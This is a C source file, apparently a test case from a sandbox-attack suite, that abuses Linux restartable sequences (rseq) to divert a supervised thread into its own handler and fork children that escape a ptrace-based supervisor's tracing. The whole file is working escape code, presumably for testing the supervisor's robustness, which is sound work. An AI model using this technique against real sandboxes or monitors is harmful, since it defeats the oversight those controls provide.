/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * A restartable sequence (rseq) whose range covers the landing page: a thread that the supervisor
 * has put there is sent to a handler of ours by the kernel as soon as it was interrupted. While a
 * thread goes from one tracer to the next it has none, and what is born then has none for ever.
 */
#include <linux/rseq.h>
#include <sys/rseq.h>

#include "attack.h"

static struct rseq_cs section __attribute__((aligned(32)));

/* The kernel wants the signature right before the handler. */
__asm__(".pushsection .text\n"
        ".byte 0x0f, 0xb9, 0x3d\n"
        ".long 0x53053053\n"
        "thrown_out:\n"
        "\tand $-16, %rsp\n"
        "\tcall runs_alone\n"
        ".popsection\n");
extern char thrown_out[];

/* Nobody traces us when a call that is to be judged is answered with ENOSYS. */
static bool is_free(void)
{
        return syscall(SYS_rmdir, "") < 0 && errno == ENOSYS;
}

__attribute__((used)) static void runs_alone(void)
{
        for (int i = 0; i < 3; i++)
                if (syscall(SYS_fork) == 0) {
                        if (is_free())
                                SAY("open: a child that nobody traces\n");
                        _exit(0);
                }
        if (is_free())
                SAY("open: a thread that nobody traces\n");
        _exit(0);
}

static void be_judged(void)
{
        struct rseq *area = (struct rseq *) ((char *) __builtin_thread_pointer() + __rseq_offset);

        for (int i = 0; i < ROUNDS; i++) {
                *(volatile uint64_t *) &area->rseq_cs = (uintptr_t) &section;
                syscall(SYS_mkdir, forbidden_directory(), 0700);
        }
        if ((int) *(volatile uint32_t *) &area->cpu_id < 0)
                SAY("open: the thread has lost its restartable sequences\n");
}

int main(void)
{
        supervisor_pid();
        if (__rseq_size == 0)
                nothing_to_win("kernel", "no restartable sequences");
        section.start_ip = 0x10000;
        section.post_commit_offset = 0x3b0000;
        section.abort_ip = (uintptr_t) thrown_out;
        for (int i = 0; i < 4; i++)
                if (fork() == 0) {
                        be_judged();
                        _exit(0);
                }
        wait_all();
        sleep_ms(500);
        return 0;
}
